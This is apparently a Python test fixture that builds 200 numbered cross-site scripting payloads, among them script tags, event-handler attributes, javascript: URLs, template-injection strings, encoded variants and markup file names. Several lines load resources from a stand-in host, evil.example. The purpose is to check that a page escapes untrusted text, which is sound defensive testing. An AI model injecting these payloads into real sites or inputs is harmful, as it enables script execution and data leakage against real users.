"""Texts that would run a script or ask another machine for something if a page took them for markup."""

from __future__ import annotations

FOREIGN = "evil.example"
# `ran` is defined in the browser by the tests; a page that calls it has run what somebody wrote.
_TEMPLATES = (
    "<script>ran({n})</script>",
    "<img src=x onerror=ran({n})>",
    "<svg onload=ran({n})>",
    '"><script>ran({n})</script>',
    "'><img src=x onerror=ran({n})>",
    '" autofocus onfocus=ran({n}) x="',
    "' onmouseover='ran({n})' style='position:fixed;inset:0",
    "</textarea><script>ran({n})</script>",
    "</title><script>ran({n})</script>",
    "</style><script>ran({n})</script>",
    "</script><script>ran({n})</script>",
    "--><script>ran({n})</script><!--",
    "]]><script>ran({n})</script>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe src=javascript:parent.ran({n})></iframe>",
    "<a href=javascript:ran({n})>javascript:ran({n})</a>",
    "javascript:ran({n})//",
    "<details open ontoggle=ran({n})><summary>ran({n})</summary></details>",
    "<input autofocus onfocus=ran({n})>",
    "<video src=x onerror=ran({n})></video>",
    "<marquee onstart=ran({n})>ran({n})</marquee>",
    "<math><mtext><img src=x onerror=ran({n})></mtext></math>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><use href=//evil.example/{n}#x></use></svg> ran({n})",
    "<object data=//evil.example/{n}></object> ran({n})",
    "<embed src=//evil.example/{n}> ran({n})",
    "<img src=//evil.example/{n}.png> ran({n})",
    "<link rel=stylesheet href=//evil.example/{n}.css> ran({n})",
    "<style>@import '//evil.example/{n}'</style> ran({n})",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'> ran({n})",
    "<base href=//evil.example/> ran({n})",
    "<form action=//evil.example/{n}><button autofocus>ran({n})</button></form>",
    "<div hx-get=//evil.example/{n} hx-trigger=load>ran({n})</div>",
    "<div hx-get=/search?q={n} hx-trigger=load hx-on:load=ran({n})>ran({n})</div>",
    "<b data-action=archive data-row onclick=ran({n})>ran({n})</b>",
    "{{{{7*7}}}}{{{{ran({n})}}}}{{% raw %}}${{ran({n})}}",
    "&lt;script&gt;ran({n})&lt;/script&gt;&#60;img src=x onerror=ran({n})&#62;",
    "%3Cscript%3Eran({n})%3C/script%3E\\u003cscript>ran({n})</script>",
    "\u202e<scr\u200bipt>ran({n})</scr\u200bipt>\uff1cscript\uff1e",
)
N_TEXTS = 200


def hostile(number: int) -> str:
    """Return one of 200 texts; whatever it does bears its number, from 0 on."""
    return _TEMPLATES[number % len(_TEMPLATES)].format(n=number)


def hostile_file(number: int) -> str:
    """Return a name of a file that is markup; it has no slash, so nothing is closed in it."""
    return ("<img src=x onerror=ran({n})>", "\"'><svg onload=ran({n})>", "<script>ran({n})<!--")[number % 3].format(
        n=number
    )
